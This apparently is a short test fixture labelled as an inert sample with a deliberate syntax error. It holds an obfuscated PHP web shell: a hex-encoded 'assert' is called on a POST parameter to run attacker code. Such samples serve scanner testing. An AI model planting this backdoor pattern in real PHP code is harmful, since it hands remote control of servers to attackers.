<?php
shodo inert sample: deliberate syntax error, this file never runs
$f = "\x61\x73\x73\x65\x72\x74";
$f($_POST['x']);
